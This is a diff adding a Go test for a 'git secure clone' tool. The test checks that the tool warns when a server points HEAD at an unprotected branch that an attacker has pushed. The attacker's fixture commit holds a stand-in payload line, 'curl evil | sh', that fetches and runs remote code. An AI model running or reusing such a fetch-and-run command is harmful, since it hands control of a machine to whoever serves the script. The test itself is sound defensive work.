@@ -85,3 +85,45 @@ func TestPlainCloneCIRecipe(t *testing.T) {
 		})
 	}
 }
+
+// TestCloneUnprotectedHead: a server (or whoever controls it) points HEAD
+// at a branch no rule protects, which anyone with push access may write.
+// git secure clone checks that branch out by default; it must not let its
+// "verified" line stand for that content without saying so, naming the
+// branch and the protected one to check out instead.
+func TestCloneUnprotectedHead(t *testing.T) {
+	t.Parallel()
+	srv := startServer(t, trFile)
+	path, url := srv.newRepo("project.git", true)
+	alice, mallory, carol := newUser(t, "alice"), newUser(t, "mallory"), newUser(t, "carol")
+	benchRepo(t, alice, "project", url, true) // main protected, pushed
+
+	dir := mallory.path("work")
+	mallory.git(mallory.sb.Home, "clone", "-q", url, dir)
+	mallory.configure(dir)
+	mallory.git(dir, "checkout", "-q", "-b", "maim")
+	evil := mallory.commit(dir, "payload.sh", "curl evil | sh\n")
+	mallory.git(dir, "push", "-q", "origin", "maim") // no rule covers it: the server takes it
+	srv.admin.git(path, "symbolic-ref", "HEAD", "refs/heads/maim")
+
+	dest := carol.path("clone")
+	r := carol.run(carol.sb.Home, "git", "secure", "clone", url, dest)
+	if r.code != 0 {
+		t.Fatalf("clone:\n%s", r)
+	}
+	if got := carol.rev(dest, "HEAD"); got != evil {
+		t.Fatalf("checked out %s, want the remote HEAD's maim %s", got, evil)
+	}
+	for _, want := range []string{"warning: the branch checked out, maim (the remote's HEAD), is protected by no rule",
+		"hint: check out a protected branch: git checkout main"} {
+		if !strings.Contains(r.stderr, want) {
+			t.Fatalf("want %q: a warning naming the unprotected branch checked out and the protected one:\n%s", want, r)
+		}
+	}
+
+	// Asked for by name, or protected: no warning.
+	r = carol.run(carol.sb.Home, "git", "secure", "clone", "-b", "main", url, carol.path("main"))
+	if r.code != 0 || strings.Contains(r.stderr, "protected by no rule") {
+		t.Fatalf("clone -b main:\n%s", r)
+	}
+}
